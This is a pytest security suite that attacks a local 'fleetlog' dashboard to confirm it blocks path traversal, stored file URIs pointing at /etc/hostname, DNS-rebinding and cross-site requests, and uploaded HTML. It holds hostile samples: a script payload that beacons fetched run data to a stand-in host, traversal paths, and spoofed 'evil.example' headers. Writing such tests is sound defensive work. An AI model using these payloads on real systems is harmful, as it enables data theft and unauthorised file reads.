"""The dashboard attacked for real: ``fleetlog ui`` in its own process, raw HTTP requests.

Hostile data is planted in the store the way a compromised producer could write it (an
artifact record whose URI points at ``/etc/hostname``, an uploaded HTML page); every
refusal is checked on the wire, and so are the headers every response must carry.
"""

from __future__ import annotations

import http.client
import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import pandas as pd
import pytest
from polling import wait_for

from fleetlog.localkafka import free_port

if TYPE_CHECKING:
    from security.conftest import SecuredStore

TOKEN = "t0ken-for-tests"
RUN = "r-art"
HOSTNAME = Path("/etc/hostname")
ARTIFACT_COLUMNS = ["run_id", "name", "kind", "size", "sha256", "uri", "content_type", "description", "inline", "ts"]
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 16
PAGE = b"<html><script>fetch('/api/runs').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))</script>"


@dataclass(frozen=True)
class Reply:
    status: int
    headers: dict[str, str]
    body: bytes


@dataclass(frozen=True)
class Dashboard:
    port: int

    def get(self, path: str, headers: dict[str, str] | None = None, *, token: bool = True) -> Reply:
        """GET ``path`` byte for byte (no client-side normalisation of ``..``), Host as given."""
        given = {"Host": f"127.0.0.1:{self.port}", **({"Authorization": f"Bearer {TOKEN}"} if token else {})}
        given.update(headers or {})
        conn = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        try:
            conn.putrequest("GET", path, skip_host=True, skip_accept_encoding=True)
            for name, value in given.items():
                conn.putheader(name, value)
            conn.endheaders()
            response = conn.getresponse()
            return Reply(response.status, {k.lower(): v for k, v in response.getheaders()}, response.read())
        finally:
            conn.close()


@pytest.fixture(scope="module")
def dashboard(secured_store: SecuredStore) -> Iterator[Dashboard]:
    settings = secured_store.settings
    port = free_port()
    env = {**os.environ, "FLEETLOG_HOME": str(settings.home), "FLEETLOG_CLICKHOUSE_URL": settings.store.url}
    command = [sys.executable, "-m", "fleetlog", "ui", "--host", "127.0.0.1", "--port", str(port), "--token", TOKEN]
    process = subprocess.Popen(command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    board = Dashboard(port)
    try:
        wait_for(
            lambda: process.poll() is None and board.get("/api/health").status == 200, timeout=60, retry_on=(OSError,)
        )
        yield board
    finally:
        process.send_signal(signal.SIGTERM)
        process.wait(timeout=30)


@pytest.fixture(scope="module")
def artifacts(secured_store: SecuredStore) -> Path:
    """The run's own folder, with one page and one image in it, and records planted next to them."""
    folder = secured_store.settings.home / "artifacts" / RUN
    (folder / "images").mkdir(parents=True)
    (folder / "page.html").write_bytes(PAGE)
    (folder / "images" / "plot.png").write_bytes(PNG)
    (folder.parent / "escape.txt").write_text("outside the run's folder")
    stamp = pd.Timestamp.now(tz="UTC")
    rows = [
        ["hostname", "file", 10, "", f"local://{HOSTNAME}", "text/plain", "", b""],
        ["cached", "file", 10, "", f"simplecache::file://{HOSTNAME}", "text/plain", "", b""],
        ["../escape.txt", "file", 10, "", (folder.parent / "escape.txt").as_uri(), "text/plain", "", b""],
        ["page.html", "file", len(PAGE), "", (folder / "page.html").as_uri(), "text/html", "", b""],
        ["plot", "image", len(PNG), "", (folder / "images" / "plot.png").as_uri(), "image/png", "", b""],
        ["tiny", "image", len(PAGE), "", "", "text/html", "", PAGE],  # inline bytes claiming to be a page
    ]
    secured_store.owner.insert("run_artifacts", [[RUN, *r, stamp] for r in rows], column_names=ARTIFACT_COLUMNS)
    return folder


def artifact(dashboard: Dashboard, name: str) -> Reply:
    return dashboard.get(f"/api/runs/{RUN}/artifact/{name}")


def test_stored_uris_are_never_followed(dashboard: Dashboard, artifacts: Path) -> None:
    secret = HOSTNAME.read_bytes().strip() if HOSTNAME.is_file() else b"\x00never"
    for name in ("hostname", "cached"):
        reply = artifact(dashboard, name)
        assert reply.status == 404 and secret not in reply.body, (name, reply)


@pytest.mark.parametrize(
    "path",
    [
        f"/api/runs/{RUN}/artifact/../escape.txt",
        f"/api/runs/{RUN}/artifact/..%2Fescape.txt",
        f"/api/runs/{RUN}/artifact/images/../../escape.txt",
        f"/api/runs/{RUN}/artifact//etc/hostname",
        "/api/runs/../artifact/escape.txt",
        f"/api/runs/{RUN}/artifact/a::file:%2F%2F%2Fetc%2Fhostname",
    ],
)
def test_names_that_leave_the_run_are_refused(dashboard: Dashboard, artifacts: Path, path: str) -> None:
    reply = dashboard.get(path)
    assert reply.status in (400, 404) and b"outside" not in reply.body, reply


def test_an_uploaded_page_downloads_and_never_runs_in_the_dashboard(dashboard: Dashboard, artifacts: Path) -> None:
    for name in ("page.html", "tiny"):
        reply = artifact(dashboard, name)
        assert reply.status == 200 and reply.body == PAGE
        assert reply.headers["content-disposition"].startswith("attachment;")
        assert reply.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in reply.headers["content-security-policy"]


def test_a_raster_image_is_shown_inline(dashboard: Dashboard, artifacts: Path) -> None:
    reply = artifact(dashboard, "plot")
    assert reply.status == 200 and reply.body == PNG and reply.headers["content-type"] == "image/png"
    assert "content-disposition" not in reply.headers and reply.headers["x-content-type-options"] == "nosniff"


def test_every_response_carries_the_security_headers(dashboard: Dashboard) -> None:
    replies = {
        "index": dashboard.get("/"),
        "static": dashboard.get("/static/app.js"),
        "api": dashboard.get("/api/health"),
        "not found": dashboard.get("/api/runs/nope"),
        "no route": dashboard.get("/nothing/here"),
        "401": dashboard.get("/api/health", token=False),
        "403": dashboard.get("/api/health", {"Host": "evil.example"}),
    }
    assert {k: r.status for k, r in replies.items()} == {
        "index": 200,
        "static": 200,
        "api": 200,
        "not found": 404,
        "no route": 404,
        "401": 401,
        "403": 403,
    }
    for what, reply in replies.items():
        assert reply.headers["x-content-type-options"] == "nosniff", what
        assert "default-src 'self'" in reply.headers["content-security-policy"], what
        assert "frame-ancestors 'none'" in reply.headers["content-security-policy"], what
        assert reply.headers["x-frame-options"] == "DENY" and reply.headers["referrer-policy"] == "no-referrer", what
        assert not any(name.startswith("access-control-") for name in reply.headers), what


def test_index_has_nothing_inline_for_the_policy_to_block(dashboard: Dashboard) -> None:
    page = dashboard.get("/").body.decode()
    assert "<script>" not in page and "<style" not in page and " style=" not in page and " on" not in page.lower()


def test_rebound_hosts_and_other_sites_are_refused(dashboard: Dashboard, secured_store: SecuredStore) -> None:
    secured_store.add_run("r-csrf", "target")
    port = dashboard.port
    for headers in (
        {"Host": "evil.example"},
        {"Host": f"evil.example:{port}"},
        {"Origin": "http://evil.example"},
        {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors"},
        {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "no-cors"},
    ):
        reply = dashboard.get("/api/runs", headers)
        assert reply.status == 403 and b"r-csrf" not in reply.body, headers
    for headers in (
        {"Host": f"localhost:{port}"},
        {"Host": "127.0.0.1:9999"},  # ssh -L forwarded from another port
        {"Origin": f"http://127.0.0.1:{port}", "Sec-Fetch-Site": "same-origin"},
    ):
        reply = dashboard.get("/api/runs", headers)
        assert reply.status == 200 and b"r-csrf" in reply.body, headers
    link = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}
    assert dashboard.get("/", link).status == 200  # a link from elsewhere may open the page itself
    assert dashboard.get("/api/runs", link).status == 403
